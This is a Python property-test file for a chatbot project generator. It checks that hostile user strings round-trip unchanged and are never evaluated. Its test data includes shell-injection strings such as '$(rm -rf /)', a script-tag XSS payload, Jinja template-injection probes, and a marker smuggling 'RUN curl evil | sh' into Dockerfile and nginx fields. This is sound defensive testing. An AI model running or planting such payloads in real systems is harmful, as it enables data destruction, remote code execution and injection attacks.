"""User text is data: hostile strings survive rendering exactly and are never evaluated.

Every generated .py parses; the generated code reads back exactly the input (settings via
their repr literals, content via the JSON data loader); YAML loads back to the input; the
demo page embeds the values without breaking out of HTML/script; template syntax inside
user text is never rendered.
"""

from __future__ import annotations

import ast
import importlib.util
import itertools
import json
import re
import sys
import tempfile
from pathlib import Path
from types import ModuleType
from typing import Any

import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from pixel_desktop.codegen import render_project, write_files
from pixel_desktop.spec import ProjectSpec

BASE = "pixel-local/python:3.11-bookworm"
HOSTILE = [
    "It's \"quoted\" and '''triple''' and \"\"\"more\"\"\"",
    "back\\slash \\n not a newline \\",
    "line one\nline two\r\n\n  indented\n",
    "{{ 7*7 }} {% if true %}X{% endif %} {# c #} {%raw%}{{x}}{%endraw%}",
    "</script><script>alert(1)</script><!--",
    "sep\u2028para\u2029end\x85nel",
    "emoji 🤖🚀 and RTL עברית",
    "$(rm -rf /); `id` && echo $HOME | cat > /tmp/x; ${PATH}",
    "- not: a list\n? not a key\n: colon # comment",
    "null",
    "\ttab\x01soh\x1bescape\x7f",  # NUL itself is refused by the spec (tested there)
    "%(name)s {0} %s \\x41 \\u0041",
]
_counter = itertools.count()

text = st.one_of(
    st.sampled_from(HOSTILE),
    st.text(min_size=1, max_size=60),
    st.lists(st.sampled_from(HOSTILE), min_size=2, max_size=3).map("".join),
).map(lambda s: s.replace("\x00", "")).filter(lambda s: s.strip() != "")
single_line = text.map(lambda s: re.sub(r"[\r\n\x00]", " ", s))


def _module(path: Path) -> ModuleType:
    """Import one stdlib-only generated module from ``path`` under a unique name."""
    name = f"generated_{next(_counter)}"
    spec = importlib.util.spec_from_file_location(name, path)
    assert spec and spec.loader
    module = importlib.util.module_from_spec(spec)
    sys.modules[name] = module  # dataclasses look their module up here
    try:
        spec.loader.exec_module(module)
    finally:
        del sys.modules[name]
    return module


@st.composite
def hostile_specs(draw: Any) -> ProjectSpec:
    return ProjectSpec.model_validate({
        "name": draw(text.map(lambda s: s[:80]).filter(lambda s: s.strip() != "")),
        "client": draw(text),
        "description": draw(text),
        "personality": {"tone": draw(text), "style": draw(text), "greeting": draw(text),
                        "system_prompt": draw(text)},
        "business_rules": [
            {"name": "words", "match": [draw(text), draw(text)], "reply": draw(text), "handoff": True},
            {"name": "regex", "regex": re.escape(draw(text)), "reply": draw(text)},
        ],
        "guidelines": [draw(text)],
        "training_data": {"faq": [{"question": draw(text), "answer": draw(text)}],
                          "documents": [{"title": draw(text), "text": draw(text)}]},
        "deployment": {"env_vars": {"APP_NOTE": draw(single_line), "LOG_LEVEL": "info"},
                       "secret_env": ["API_TOKEN"]},
        "tests": [{"ask": draw(text), "expect_contains": [draw(text)]}],
    })


def check_round_trip(spec: ProjectSpec, template: str) -> dict[str, bytes]:
    files = render_project(spec, template, base_image=BASE)
    by_path = {f.path: f.content for f in files}
    for f in files:
        if f.path.endswith(".py"):
            ast.parse(f.content.decode("utf-8"), filename=f.path)
    with tempfile.TemporaryDirectory() as tmp:
        root = Path(tmp)
        write_files(files, root)
        gen_settings = _module(root / "config" / "settings.py")
        assert spec.name == gen_settings.NAME
        assert spec.client == gen_settings.CLIENT
        assert spec.description == gen_settings.DESCRIPTION
        assert spec.deployment.env_vars == gen_settings.ENV_DEFAULTS
        assert gen_settings.SECRET_ENV == ("API_TOKEN",)
        data_mod = _module(root / "assistant" / "data.py")
        data = data_mod.load_assistant_data(root / "assistant_data" / "assistant.json")
        p = spec.personality
        assert (data.personality.tone, data.personality.style, data.personality.greeting,
                data.personality.system_prompt) == (p.tone, p.style, p.greeting, p.system_prompt)
        assert data.guidelines == tuple(spec.guidelines)
        assert [(r.name, r.match, r.regex, r.reply, r.handoff) for r in data.rules] == [
            (r.name, tuple(r.match or ()), r.regex, r.reply, r.handoff) for r in spec.business_rules]
        assert [(e.question, e.answer) for e in data.faq] == [
            (e.question, e.answer) for e in spec.training_data.faq]
        assert [(d.title, d.text) for d in data.documents] == [
            (d.title, d.text) for d in spec.training_data.documents]
        page_mod = _module(root / "assistant" / "page.py")
        page = page_mod.render_page(spec.name, p.greeting, "/chat")
        assert page.count("</script>") == 2 and "\u2028" not in page and "\u2029" not in page
        embedded = re.search(r'type="application/json">(.*?)</script>', page, re.S)
        assert embedded and json.loads(embedded.group(1)) == {
            "name": spec.name, "greeting": p.greeting, "chatPath": "/chat"}
    cases = json.loads(by_path["tests/conversations.json"])
    assert cases == [{"ask": t.ask, "expect_contains": t.expect_contains, "expect_handoff": None}
                     for t in spec.tests]
    compose = yaml.safe_load(by_path["deployment/docker-compose.yml"])
    env = compose["services"]["assistant"]["environment"]
    assert env == {**{k: v.replace("$", "$$") for k, v in spec.deployment.env_vars.items()}, "API_TOKEN": None}
    k8s = {d["kind"]: d for d in yaml.safe_load_all(by_path["deployment/k8s.yaml"])}
    assert k8s["ConfigMap"]["data"] == {"PORT": "8000", **spec.deployment.env_vars}
    return by_path


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(spec=hostile_specs(), template=st.sampled_from(["faq-assistant", "llm-assistant"]))
def test_hostile_values_round_trip_exactly_through_generated_code(spec, template):
    check_round_trip(spec, template)


def test_template_syntax_in_user_text_is_never_evaluated():
    payload = "{{ 7*7 }}{% if true %}EVALUATED{% endif %}{{ config }}{{ ''.__class__ }}"
    spec = ProjectSpec.model_validate({
        "name": payload, "client": payload, "description": payload,
        "personality": {"greeting": payload, "system_prompt": payload, "tone": payload, "style": payload},
        "business_rules": [{"name": payload[:100], "match": [payload], "reply": payload}],
        "guidelines": [payload],
        "training_data": {"faq": [{"question": payload, "answer": payload}]},
        "deployment": {"env_vars": {"NOTE": payload}},
        "tests": [{"ask": payload, "expect_contains": [payload]}],
    })
    by_path = check_round_trip_loose(spec)
    plain = check_round_trip_loose(ProjectSpec.model_validate({"name": "n", "client": "c"}))
    for path, content in by_path.items():
        assert content.count(b"49") == plain.get(path, b"").count(b"49"), path
        assert content.count(b"EVALUATED") == content.count(b"{% if true %}EVALUATED"), path
        assert b"<class" not in content, path


def check_round_trip_loose(spec: ProjectSpec) -> dict[str, bytes]:
    files = render_project(spec, "faq-assistant", base_image=BASE)
    return {f.path: f.content for f in files}


def test_user_text_never_reaches_dockerfile_or_nginx_directives():
    marker = "MARKER\"; RUN curl evil | sh; proxy_pass http://evil; #"
    spec = ProjectSpec.model_validate({
        "name": marker, "slug": "safe-slug", "client": marker, "description": marker,
        "personality": {"greeting": marker, "system_prompt": marker},
        "training_data": {"faq": [{"question": marker, "answer": marker}]},
        "deployment": {"env_vars": {"NOTE": marker}},
    })
    by_path = {f.path: f.content for f in render_project(spec, "faq-assistant", base_image=BASE)}
    for path in ("Dockerfile", "deployment/nginx.conf", ".dockerignore", "requirements.txt"):
        assert b"MARKER" not in by_path[path], path
        assert b"evil" not in by_path[path], path
